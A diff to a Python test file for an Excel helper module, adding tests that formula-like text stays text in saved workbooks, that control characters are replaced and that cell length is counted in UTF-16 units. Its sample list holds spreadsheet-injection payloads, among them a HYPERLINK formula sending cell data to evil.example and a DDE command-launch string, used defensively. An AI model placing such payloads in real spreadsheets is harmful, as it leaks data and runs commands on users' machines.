@@ -1,19 +1,30 @@
-"""The one rule for cell references: exactly Excel's grid, however a reference is written."""
+"""Excel rules: cell references exactly as Excel's grid, text that stays text,
+and the cell limit counted as Excel counts it."""
 
 from __future__ import annotations
 
-from hypothesis import given
+import io
+import zipfile
+
+from hypothesis import given, settings
 from hypothesis import strategies as st
+from lxml import etree
+from openpyxl import Workbook, load_workbook
 
 from selfassess.office.excel import (
+    MAX_CELL_CHARS,
     MAX_COLUMN,
     MAX_ROW,
     cell_ref,
     column_letters,
     column_number,
     coordinate,
+    excel_text,
+    fits_in_cell,
     name_target,
     range_area,
+    set_text,
+    utf16_len,
 )
 
 rows = st.integers(1, MAX_ROW)
@@ -71,3 +82,83 @@ def test_name_targets() -> None:
 def test_range_area_counts_the_whole_grid_once_per_range() -> None:
     assert range_area("A1:XFD1048576 A1:XFD1048576") == 2 * MAX_ROW * MAX_COLUMN
     assert range_area("A00001:A00010") == 10
+
+
+FORMULA_LIKE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "@SUM(A1:A9)",
+    "+1",
+    "-1",
+    "=1+1",
+    "  =cmd|' /C calc'!A0",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "＝1+1",
+    "=",
+]
+
+S_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+
+
+def formulas_in(data: bytes) -> list[str]:
+    """Every ``<f>`` element of every worksheet of a saved workbook."""
+    found: list[str] = []
+    with zipfile.ZipFile(io.BytesIO(data)) as zf:
+        for name in zf.namelist():
+            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
+                root = etree.fromstring(zf.read(name))
+                found += [el.text or "" for el in root.iter(S_NS + "f")]
+    return found
+
+
+def saved(values: list[str]) -> bytes:
+    wb = Workbook()
+    ws = wb.active
+    for row, value in enumerate(values, 1):
+        set_text(ws.cell(row=row, column=1), value)
+    out = io.BytesIO()
+    wb.save(out)
+    return out.getvalue()
+
+
+def test_formula_like_text_stays_text_in_a_saved_workbook() -> None:
+    data = saved(FORMULA_LIKE)
+    assert formulas_in(data) == []
+    ws = load_workbook(io.BytesIO(data)).active
+    for row, value in enumerate(FORMULA_LIKE, 1):
+        cell = ws.cell(row=row, column=1)
+        assert (cell.value, cell.data_type) == (value, "s")
+        if value.lstrip(" ").startswith(("=", "+", "-", "@", "＝")):
+            assert cell.quotePrefix
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.lists(st.text(max_size=200), min_size=1, max_size=5))
+def test_any_text_survives_a_workbook_as_text(values: list[str]) -> None:
+    data = saved(values)
+    assert formulas_in(data) == []
+    ws = load_workbook(io.BytesIO(data)).active
+    for row, value in enumerate(values, 1):
+        read = ws.cell(row=row, column=1).value
+        assert (read or "") == excel_text(value)
+
+
+def test_control_characters_and_long_text() -> None:
+    assert excel_text("a\x00b\x1fc\td") == "a\ufffdb\ufffdc\td"
+    long = "ع" * (MAX_CELL_CHARS + 10)
+    cut = excel_text(long)
+    assert len(cut) == MAX_CELL_CHARS
+    assert cut.endswith("…")
+    astral = "😀" * MAX_CELL_CHARS  # two UTF-16 units each
+    assert len(excel_text(astral).encode("utf-16-le")) // 2 <= MAX_CELL_CHARS
+    assert excel_text("x" * MAX_CELL_CHARS) == "x" * MAX_CELL_CHARS
+    ws = load_workbook(io.BytesIO(saved(["a\x01b", long]))).active
+    assert ws["A1"].value == "a\ufffdb"
+    assert len(ws["A2"].value) == MAX_CELL_CHARS
+
+
+def test_the_limit_is_in_utf16_units() -> None:
+    assert fits_in_cell("😀" * (MAX_CELL_CHARS // 2))
+    assert not fits_in_cell("😀" * (MAX_CELL_CHARS // 2 + 1))
+    assert utf16_len(excel_text("😀" * 20_000)) == MAX_CELL_CHARS
